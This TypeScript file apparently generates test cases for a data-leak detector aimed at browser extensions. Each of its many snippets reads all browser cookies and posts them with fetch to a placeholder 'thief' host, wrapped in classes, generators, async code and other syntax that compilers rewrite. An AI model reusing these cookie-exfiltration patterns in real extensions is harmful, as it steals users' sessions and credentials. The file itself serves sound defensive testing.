import { thief, type Case } from '../case.ts';
import { casesOfPairs, pairsOf } from '../pairs.ts';
import { bundles } from './bundles.ts';
import { transformations } from '../transformations/index.ts';

/** What compilers and minifiers make of syntax that is newer than their target. */
const compilers = [
  'as written',
  'terser in an IIFE',
  'esbuild for ES2015',
  'Babel to ES2015',
  'Babel to ES5',
  'Babel to ES5, loosely',
  'Babel to ES5, minified',
];

/** Code that posts the value of an expression. */
const post = (value: string): string =>
  `fetch('https://${thief}/a', { method: 'POST', body: JSON.stringify(${value}) })`;

/** Syntax that compilers write out in helpers; of all cookies and a number one is sent, and the other is handed along. */
const programs: Readonly<Record<string, string>> = {
  'a constructor of a base class': `class B{constructor(v){this.v=v} send(){${post('this.v')}}} class C extends B{constructor(v,o){super(v);this.o=o}} chrome.cookies.getAll({},c=>{new C(«c¦5»,«5¦c»).send()})`,
  'a method of the base class': `class B{send(x){${post('x')}}} class C extends B{send(x,y){super.send(x);void y}} chrome.cookies.getAll({},c=>{new C().send(«c¦5»,«5¦c»)})`,
  getters: `class B{constructor(a,b){this._a=a;this._b=b} get a(){return this._a} get b(){return this._b}} chrome.cookies.getAll({},c=>{const b=new B(«c¦5»,«5¦c»);${post('b.a')}})`,
  setters: `class B{set a(v){this._a=v} set b(v){this._b=v} send(){${post('this._a')}}} chrome.cookies.getAll({},c=>{const b=new B();b.a=«c¦5»;b.b=«5¦c»;b.send()})`,
  'static methods': `class B{static send(x){${post('x')}} static other(x){void x}} chrome.cookies.getAll({},c=>{B.send(«c¦5»);B.other(«5¦c»)})`,
  'a static field': `class B{static kept=null;static send(){${post('B.kept')}}} chrome.cookies.getAll({},c=>{B.kept=«c¦5»;B.other=«5¦c»;B.send()})`,
  'private fields': `class B{#v;#w;constructor(v,w){this.#v=v;this.#w=w} send(){${post('this.#v')}}} chrome.cookies.getAll({},c=>{new B(«c¦5»,«5¦c»).send()})`,
  'a private method': `class B{#s(x){${post('x')}} send(x,y){this.#s(x);void y}} chrome.cookies.getAll({},c=>{new B().send(«c¦5»,«5¦c»)})`,
  'a generator': `function* g(a,b){yield a;void b} chrome.cookies.getAll({},c=>{for(const x of g(«c¦5»,«5¦c»)) ${post('x')}})`,
  'an async arrow function': `const send=async (a,b)=>{await null;await ${post('a')};void b}; chrome.cookies.getAll({},c=>{send(«c¦5»,«5¦c»)})`,
  'an async loop': `const run=async()=>{const c=await chrome.cookies.getAll({});const list=[«c¦5»];const other=[«5¦c»];for(const x of list){await ${post('x')}} void other}; run()`,
  'an async try': `const run=async()=>{try{const c=await chrome.cookies.getAll({});const d=«5¦c»;await ${post('«c¦5»')};void d}catch(e){console.error(e)}}; run()`,
  'promises of a list': `const run=async()=>{const c=await chrome.cookies.getAll({});const [a,b]=await Promise.all([Promise.resolve(«c¦5»),Promise.resolve(«5¦c»)]);await ${post('a')};void b}; run()`,
  'what a pattern leaves': `chrome.cookies.getAll({},c=>{const {a,...rest}={a:«5¦c»,b:«c¦5»};${post('rest.b')};void a})`,
  'a pattern of a list': `chrome.cookies.getAll({},c=>{const [a,b]=[«c¦5»,«5¦c»];${post('a')};void b})`,
  'a spread object': `chrome.cookies.getAll({},c=>{const o={...{k:«c¦5»},z:1};const p={...{k:«5¦c»}};${post('o.k')};void p})`,
  'spread arguments': `const send=(a,...r)=>{${post('r[0]')};void a}; chrome.cookies.getAll({},c=>{send(...[«5¦c»,«c¦5»])})`,
  'default parameters': `chrome.cookies.getAll({},c=>{const send=(x=«c¦5»,y=«5¦c»)=>{${post('x')};void y};send()})`,
  'optional calls': `const api={s:{send(x){${post('x')}}}}; chrome.cookies.getAll({},c=>{api?.s?.send?.(«c¦5»);api?.s?.other?.(«5¦c»)})`,
  'a tagged template': `const t=(s,a,b)=>{${post('a')};void b}; chrome.cookies.getAll({},c=>{t\`x\${«c¦5»}y\${«5¦c»}\`})`,
  'functions made in a loop': `chrome.cookies.getAll({},c=>{const fs=[];for(const x of [«c¦5»]){fs.push(()=>{${post('x')}})} void «5¦c»; fs.forEach(f=>f())})`,
  'a loop over a map': `chrome.cookies.getAll({},c=>{const m=new Map([['a',«c¦5»]]);const n=new Map([['a',«5¦c»]]);for(const [k,v] of m) ${post('v')};void n})`,
  'a loop over entries': `chrome.cookies.getAll({},c=>{const o={a:«c¦5»};const p={a:«5¦c»};for(const [k,v] of Object.entries(o)) ${post('v')};void p})`,
  'a class that waits': `class J{kept=[];other=[];add(x,y){this.kept.push(x);this.other.push(y)} async flush(){await null;await ${post('this.kept')};this.kept=[]}} const run=async()=>{const c=await chrome.cookies.getAll({});const j=new J();j.add(«c¦5»,«5¦c»);await j.flush()};run()`,
  'an async method of the base class': `class B{async send(x){await ${post('x')}}} class C extends B{async go(x,y){await super.send(x);void y}} chrome.cookies.getAll({},c=>{new C().go(«c¦5»,«5¦c»)})`,
  'an inherited async method': `class B{async post(x){return ${post('x')}}} class C extends B{constructor(){super();this.n=0} async go(x,y){this.n++;await this.post(x);void y}} chrome.cookies.getAll({},c=>{new C().go(«c¦5»,«5¦c»)})`,
  'an async generator': `async function* g(a,b){yield a;void b} (async()=>{const c=await chrome.cookies.getAll({});for await(const x of g(«c¦5»,«5¦c»)) await ${post('x')}})()`,
  'a table by constants': `const K={A:1,B:2};const h={[K.A]:x=>{${post('x')}},[K.B]:x=>{void x}}; chrome.cookies.getAll({},c=>{h[K.A](«c¦5»);h[K.B](«5¦c»)})`,
  'this of an arrow function': `class J{constructor(){this.v=null;this.w=null} go(){chrome.cookies.getAll({},c=>{this.v=«c¦5»;this.w=«5¦c»;this.send()})} send(){${post('this.v')}}} new J().go()`,
  'a bound method': `class J{constructor(){this.on=this.on.bind(this)} on(c){this.send(«c¦5»);this.keep(«5¦c»)} send(x){${post('x')}} keep(x){void x}} chrome.cookies.getAll({},new J().on)`,
  'a field that is a callback': `class J{on=(c)=>{this.send(«c¦5»);this.keep(«5¦c»)};send(x){${post('x')}} keep(x){void x}} chrome.cookies.getAll({},new J().on)`,
  'an async function that another waits for': `const get=async()=>{const c=await chrome.cookies.getAll({});return {a:«c¦5»,b:«5¦c»}};const run=async()=>{const {a,b}=await get();await ${post('a')};void b};run()`,
  'a chain of promises': `chrome.cookies.getAll({}).then(c=>({a:«c¦5»,b:«5¦c»})).then(({a,b})=>{void b;return a}).then(x=>${post('x')})`,
  'what is sent in the end': `const run=async()=>{let x,y;try{const c=await chrome.cookies.getAll({});x=«c¦5»;y=«5¦c»}finally{await ${post('x')}}};run()`,
  'a folded list': `chrome.cookies.getAll({},c=>{const o=[«c¦5»].reduce((a,x)=>({...a,k:x}),{});const p=[«5¦c»].reduce((a,x)=>({...a,k:x}),{});${post('o')};void p})`,
  'a mixin': `const M=B=>class extends B{send(x,y){this.post(x);void y}}; class A{post(x){${post('x')}}} class C extends M(A){} chrome.cookies.getAll({},c=>{new C().send(«c¦5»,«5¦c»)})`,
  'nullish assignment': `chrome.cookies.getAll({},c=>{let a=null;a??=«c¦5»;let b=null;b??=«5¦c»;${post('a')};void b})`,
  'a loop with a label': `chrome.cookies.getAll({},c=>{let r='';const o=«5¦c»;outer:for(const x of [«c¦5»]){for(const y of [1]){r+=JSON.stringify(x);continue outer}} ${post('r')};void o})`,
  'a pattern as a parameter': `function send({a,b}){${post('a')};void b} chrome.cookies.getAll({},c=>{send({a:«c¦5»,b:«5¦c»})})`,
};

/** The same syntax as it is written, and as builds for older browsers leave it, and bundles as they are shipped. */
export function compiledCases(): readonly Case[] {
  const rows = Object.fromEntries(
    Object.entries(programs).map(([name, worker]) => [name, { worker }]),
  );
  const compiled = compilers.flatMap((group) =>
    casesOfPairs('compiled', pairsOf(group, rows)).map((one) => ({
      ...one,
      transformation: transformations[group]!,
    })),
  );
  return [...compiled, ...casesOfPairs('compiled', pairsOf('as shipped', bundles))];
}
